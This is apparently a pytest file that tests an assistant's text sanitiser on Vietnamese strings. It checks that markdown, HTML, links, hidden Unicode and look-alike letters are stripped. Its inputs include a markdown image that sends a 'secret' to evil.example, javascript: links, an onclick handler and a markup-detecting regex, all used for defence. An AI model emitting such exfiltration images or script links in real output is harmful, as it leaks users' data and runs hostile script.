"""What of a text may be shown: no markup, no address, nothing hidden, no look-alike letters."""

from __future__ import annotations

import re

import pytest

from assistant.sanitise import harmless, is_plain, plain, visible
from tests.fakes import PAYLOADS


@pytest.mark.parametrize(
    ("raw", "shown"),
    [
        ("Xã **Hoa Mai** giảm *12* thôn.", "Xã Hoa Mai giảm 12 thôn."),
        ("**65**,4%", "65,4%"),
        ("Xem <b onclick=x>đây</b>", "Xem đây"),
        ("Ảnh ![a](http://evil.example/?q=bí-mật) đây", "Ảnh đây"),
        ("Bấm [vào đây](javascript:x) nhé", "Bấm vào đây nhé"),
        ("`mã` | bảng | #thẻ", "mã bảng thẻ"),
        ("xa\u0301 Hoa Mai", "xá Hoa Mai"),
        ("có １２ thôn", "có 12 thôn"),
        ("x\u202eóa\u202c", "xóa"),
        ("một\tdòng\u00a0thôi .", "một dòng thôi."),
        ("<!-- giấu --> rõ", "rõ"),
    ],
)
def test_plain(raw: str, shown: str) -> None:
    assert plain(raw) == shown


@pytest.mark.parametrize(
    ("text", "allowed"),
    [
        ("Năm 2019, xã Hoa Mai (Bắc Giang) giảm 12 thôn; đạt 65,4%.", True),
        ("Đề án số 07-ĐA/TU: “Nâng cao chất lượng”…", True),
        ("Diện tích 5 m²", True),
        ("Bắc Giаng", False),  # a Cyrillic а
        ("Bắc Giang 北江", False),
        ("Xem http://evil.example/x", False),
        ("Xem evil.example", False),
        ("Xem www.evil.example", False),
        ("Gửi về a@evil.example", False),
        ("javascript:alert(1)", False),
        ("Được ⅓ số xã", False),
        ("Khóa Ⅻ", False),
        ("Tốt 👍", False),
        ("g\u0323\u0301\u0302\u0303iảm", False),
    ],
)
def test_is_plain(text: str, allowed: bool) -> None:
    assert is_plain(text) is allowed


def test_nothing_hidden_is_kept() -> None:
    tags = "".join(chr(0xE0000 + ord(letter)) for letter in "hidden")
    assert visible(f"Xã\u200b\u00ad{tags}\ufeff\ufe0f\u2028giảm\x00") == "Xã\ngiảm"


@pytest.mark.parametrize("payload", PAYLOADS)
def test_words_of_a_document_do_nothing_in_markdown(payload: str) -> None:
    safe = harmless(payload)
    assert not re.search(r"<[a-zA-Z/!?]|\]\(|!\[|\w://|www\.|javascript:\S", safe)


@pytest.mark.parametrize(
    "text",
    ["Số dân < 5 nghìn, > 3 nghìn.", "Xã giảm 12 thôn; đạt 65,4%.", "Đề án [1] và mục (2)", "a **b** c"],
)
def test_ordinary_words_stay_as_they_are(text: str) -> None:
    assert harmless(text) == text
